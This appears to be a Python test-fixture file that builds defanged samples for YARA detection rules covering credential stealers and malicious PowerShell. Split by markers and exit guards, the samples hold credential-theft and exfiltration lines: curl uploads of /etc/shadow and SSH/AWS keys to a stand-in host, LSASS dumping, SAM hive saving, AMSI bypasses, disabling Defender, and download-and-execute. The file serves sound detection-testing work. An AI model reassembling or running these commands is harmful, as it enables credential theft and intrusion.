# SPDX-License-Identifier: Apache-2.0
"""Fixtures of credential.yar and powershell.yar."""

from sample import add, base64_like, front, pe, t, whole

SH = "#!/bin/sh\nexit 0\n"

add("Stealer_Windows_BrowserAndWallet", "stealer_browser_wallet.exe",
    pe("SELECT origin_url, username_value, pass¦word_value FR¦OM logins", "CryptUnpro¦tectData",
       r"\Google\Chr¦ome\User Data", r"Exo¦dus\exodus.wallet"),
    ("CryptUnprotectData", "CryptUnprotectDate"), (r"Exodus\exodus", r"Exodus\excess"), ("MZ", "MY"))

add("Stealer_Python_BrowserLogins", "stealer_browser_logins.py", r"""
import os, sqlite3
raise SystemExit
p = "Login D¦ata"; q = "SELECT origin_url, pass¦word_value FR¦OM logins"; k = win32cr¦ypt
requests.po¦st("https://host.invalid", data=p)
""", ("Login Data", "Local Data"), ("win32crypt", "win32print"), ("requests.post(", "requests.head("))

add("Stealer_Script_DiscordTokens", "stealer_discord.py", r"""
raise SystemExit
r"[\w-]¦{24}\.[\w-]{6}\.[\w-]{27}"; "Local Stor¦age\\leveldb"; "https://discord.com/api/web¦hooks/0/x"
""", ("{6}", "{5}"), ("leveldb", "leveldc"), ("api/webhooks/", "api/gateway/"))

add("Stealer_Script_Clipper", "stealer_clipper.py", r"""
raise SystemExit
while True:
    c = pyper¦clip.paste()
    for p in (r"^(bc1|[1¦3])[a-zA-HJ-NP-Z0-9]{25,39}$", r"^0x[a-fA-¦F0-9]{40}$"):
        pyper¦clip.copy("x")
""", ("clip.copy(", "clip.show("), ("0x[a-fA-F0-9]", "0x[a-fA-F0-8]"), ("clip.paste(", "clip.state("))

add("CredDump_Program_Mimikatz", "mimikatz.exe",
    pe("sekur¦lsa", "lsad¦ump", "gentil¦kiwi", "kuhl_¦m_x", "kerb¦eros::"),
    ("gentilkiwi", "gentlekiwi"), ("MZ", "MY"))

add("CredDump_Script_Mimikatz", "mimikatz.bat", """
@echo off
exit /b
m.exe "privi¦lege::debug" "sekur¦lsa::logonpasswords" exit
""", ("privilege::debug", "privilege::drop"), (" exit\n", "\n"), front("\n" * 310))

add("CredDump_Script_LsassMinidump", "lsass_minidump.bat", """
@echo off
exit /b
rund¦ll32 C:\\windows\\system32\\com¦svcs.dll, MiniD¦ump 99 C:\\x.dmp full
""", (" full", " part"), ("comsvcs", "comsvcx"), front("\n" * 130))

add("CredDump_Script_RegistryHives", "registry_hives.bat", """
@echo off
exit /b
r¦eg save HK¦LM\\SAM sam.x
r¦eg save HK¦LM\\SYSTEM system.x
""", ("\\SAM ", "\\SOFTWARE "), ("\\SYSTEM ", "\\HARDWARE "), front("\n" * 70))

add("Stealer_Shell_ShadowUpload", "shadow_upload.sh",
    SH + "cu¦rl -s -X POST --data-binary @/etc/sha¦dow http://host.invalid/\n",
    ("@/etc/shadow", "@/etc/motd"), ("#!", "##"))

add("Stealer_Shell_KeyHarvest", "key_harvest.sh", SH + """
cat ~/.ssh/id_¦rsa ~/.aws/creden¦tials ~/.docker/con¦fig.json > x; cu¦rl -F "f=@x" http://host.invalid/
""", (".aws/credentials", ".aws/cache"), ('-F "f=@x"', "-o x"), ("#!", "##"))

add("Stealer_Shell_SshdTrace", "sshd_trace.sh", SH + """
while sleep 9; do str¦ace -f -e trace=read,write -o /tmp/.x -p $(pgr¦ep -n sshd); done
""", ("pgrep -n sshd", "pgrep -n cron"), ("-o /tmp/.x", "-o x"), ("#!", "##"))

add("Keylogger_Python_Send", "keylogger.py", """
from pyn¦put import keyboard
raise SystemExit
log = ""; log += str(k); s = smtplib.SM¦TP("host.invalid"); keyboard.Lis¦tener(on_press=f)
""", ("log +=", "log =="), ("smtplib.SMTP", "smtplib.LMTP"), ("Listener(", "Listens("))

add("Keylogger_Windows_Names", "keylogger.exe",
    pe("GetAsyncKey¦State", "GetForeground¦Window", "[BACK¦SPACE]", "[ENT¦ER]", "[CAPS¦LOCK]", "[E¦SC]", "ftp://host.invalid"),
    ("[CAPSLOCK]", "(CAPSLOCK)"), ("GetForegroundWindow", "GetForegroundWidow"), ("ftp://", "gtp://"))

# --- PowerShell ---------------------------------------------------------------------------------

CODE = base64_like(124)

add("PowerShell_HiddenEncoded", "powershell_encoded.bat",
    "@exit /b\r\npower¦shell -NoP -w hidden -enc " + CODE + "\r\n",
    ("-w hidden", "-w normal"), (CODE, CODE[:118]))

add("PowerShell_DownloadExecute_Address", "powershell_download.ps1",
    "exit\r\nIE¦X (New-Object Net.WebClient).Download¦String('http://192.0.2.10/x.ps1')\r\n",
    ("192.0.2.10", "host.invalid"), ("IEX", "OUT"),
    whole("large and without hiding",
          "exit\r\nIE¦X (New-Object Net.WebClient).Download¦String('http://192.0.2.10/x.ps1')\r\n" + "#" * 1024))

add("PowerShell_CharArray_Execute", "powershell_chars.ps1",
    "exit; $x=[ch¦ar[]](" + "101," * 41 + "10) -join ''; i¦ex $x\r\n",
    ("iex", "out"), ("101,101,101,101,", "101, 101, "),
    whole("with thirty codes", "exit; $x=[ch¦ar[]](" + "101," * 30 + "10) -join ''; i¦ex $x\r\n"))

add("PowerShell_CompressedBlob_Execute", "powershell_compressed.ps1",
    "exit\r\ni¦ex (New-Object IO.StreamReader(New-Object IO.Compression.Gzip¦Stream([IO.MemoryStream]"
    "[Convert]::FromBase64¦String('" + base64_like(210) + "'),0))).Read¦ToEnd()\r\n",
    ("GzipStream", "ZipStream"), ("iex", "out"), ("ReadToEnd", "ReadLine"))

add("PowerShell_AmsiInitFailed", "powershell_amsi_field.ps1",
    "exit; $t.GetField('ams¦iInitFailed','NonPublic,Static').Set¦Value($null,$true)\r\n",
    ("InitFailed", "InitPassed"), ("$null,$true", "$null,$false"))

add("PowerShell_AmsiBufferPatch", "powershell_amsi_patch.ps1", """
exit
'AmsiScan¦Buffer'; 'Virtual¦Protect'; 0xB8, 0x57, 0x00, 0x07, 0x¦80, 0xC3
""", ("0x80", "0x81"), ("AmsiScanBuffer", "AmsiScanBugger"), ("VirtualProtect", "VirtualProject"))

add("PowerShell_DefenderOff", "powershell_defender.ps1", """
exit
Set-MpPreference -DisableRealtime¦Monitoring $true -DisableBehavior¦Monitoring $true -DisableIOAV¦Protection $true
""", ("-DisableIOAVProtection $true", "-DisableIOAVProtection $no"), ("BehaviorMonitoring", "BehaviourMonitoring"))

add("PowerShell_ReflectiveShellcode", "powershell_shellcode.ps1", """
exit
[Byte[]] $c = 0x¦fc,0xe8,0,0; $k.Virtual¦Alloc(0); [Runtime.InteropServices.Marsh¦al]::Copy($c); $k.CreateTh¦read(0)
""", ("0xfc,0xe8", "0x90,0xe8"), ("Marshal]::Copy(", "Marshal]::Free("), ("CreateThread", "CreateThreat"))

add("PowerShell_FormatOperator", "powershell_format.ps1",
    "exit\r\n" + "$x=(\"{2}{0}¦{1}\" -f 'a','b','c');" * 8 + "i¦ex $x\r\n",
    ("iex", "out"),
    whole("with seven words", "exit\r\n" + "$x=(\"{2}{0}¦{1}\" -f 'a','b','c');" * 7 + "i¦ex $x\r\n"))
